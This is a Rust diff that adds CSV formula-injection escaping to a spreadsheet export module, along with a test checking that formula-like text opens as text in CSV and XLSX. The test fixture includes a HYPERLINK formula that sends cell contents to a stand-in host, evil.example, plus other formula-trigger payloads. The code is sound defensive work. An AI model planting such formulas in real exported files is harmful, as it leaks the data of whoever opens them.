@@ -222,7 +222,31 @@ fn excel_date(day: NaiveDate) -> Option<ExcelDateTime> {
     ExcelDateTime::from_ymd(year, month, day).ok()
 }
 
-/// Writes one table as CSV: UTF-8 with a byte-order mark, CRLF line ends, a header row.
+/// The characters that make Excel or WPS read a CSV cell as a formula (or start one, after a tab
+/// or carriage return), the CSV-injection list of OWASP.
+const FORMULA_TRIGGERS: [char; 6] = ['=', '+', '-', '@', '\t', '\r'];
+
+/// A text cell as CSV writes it: one that a spreadsheet would run as a formula
+/// (`=HYPERLINK(…)`, `+1`, `@SUM(…)`) gets a leading apostrophe, which Excel and WPS take as
+/// "this is text" and do not show. Numbers and dates are written as they are: `-3` stays a number.
+fn csv_text(cell: &Cell) -> String {
+    match cell {
+        Cell::Text(text) if text.starts_with(FORMULA_TRIGGERS) => format!("'{text}"),
+        other => other.text(),
+    }
+}
+
+/// Undoes [`csv_text`] on a cell read back from a CSV zhzj wrote: `'=…` is `=…` again. Text that
+/// merely starts with an apostrophe and no formula character after it is left alone.
+pub fn csv_cell_as_written(cell: &str) -> &str {
+    match cell.strip_prefix('\'') {
+        Some(rest) if rest.starts_with(FORMULA_TRIGGERS) => rest,
+        _ => cell,
+    }
+}
+
+/// Writes one table as CSV: UTF-8 with a byte-order mark, CRLF line ends, a header row. Text that
+/// a spreadsheet would run as a formula is written so that it opens as text.
 pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
     check_rows(table)?;
     let mut out = Vec::from("\u{feff}".as_bytes());
@@ -230,9 +254,14 @@ pub fn to_csv(table: &Table) -> Result<Vec<u8>, ExportError> {
         let mut writer = csv::WriterBuilder::new()
             .terminator(csv::Terminator::CRLF)
             .from_writer(&mut out);
-        writer.write_record(&table.headers)?;
+        writer.write_record(
+            table
+                .headers
+                .iter()
+                .map(|h| csv_text(&Cell::Text(h.clone()))),
+        )?;
         for row in &table.rows {
-            writer.write_record(row.iter().map(Cell::text))?;
+            writer.write_record(row.iter().map(csv_text))?;
         }
         writer.flush().map_err(csv::Error::from)?;
     }
@@ -337,6 +366,46 @@ mod tests {
             "{text}"
         );
         assert!(text.ends_with("XM-2026-0002,,0.85,\r\n"), "{text}");
+        Ok(())
+    }
+
+    #[test]
+    fn formula_text_opens_as_text_in_csv_and_xlsx() -> Result<(), Box<dyn std::error::Error>> {
+        let attacks = [
+            "=HYPERLINK(\"http://evil.example/?d=\"&A2,\"点击查看\")",
+            "+1+1",
+            "-2+3",
+            "@SUM(A1:A2)",
+            "\t=1+1",
+            "\r=1+1",
+        ];
+        let mut table = sample();
+        table.rows = attacks
+            .iter()
+            .map(|a| vec![(*a).into(), "诉求".into(), Cell::Int(-3), Cell::Empty])
+            .collect();
+        let csv = to_csv(&table)?;
+        let mut reader = csv::Reader::from_reader(&csv[3..]);
+        for (record, attack) in reader.records().zip(attacks) {
+            let record = record?;
+            assert_eq!(&record[0], format!("'{attack}"), "{record:?}");
+            assert_eq!(csv_cell_as_written(&record[0]), attack);
+            assert_eq!(&record[2], "-3", "a negative number stays a number");
+        }
+        assert_eq!(csv_cell_as_written("'普通文本"), "'普通文本");
+        // XLSX stores text as shared strings, never as formulas.
+        let bytes = to_xlsx(&[table], created())?;
+        let mut workbook: Xlsx<_> = Xlsx::new(std::io::Cursor::new(bytes))?;
+        let range = workbook.worksheet_range("清单")?;
+        assert_eq!(
+            range.get_value((1, 0)),
+            Some(&Data::String(attacks[0].into()))
+        );
+        let formulas = workbook.worksheet_formula("清单")?;
+        assert!(
+            formulas.used_cells().all(|(_, _, f)| f.is_empty()),
+            "no cell is a formula"
+        );
         Ok(())
     }
 
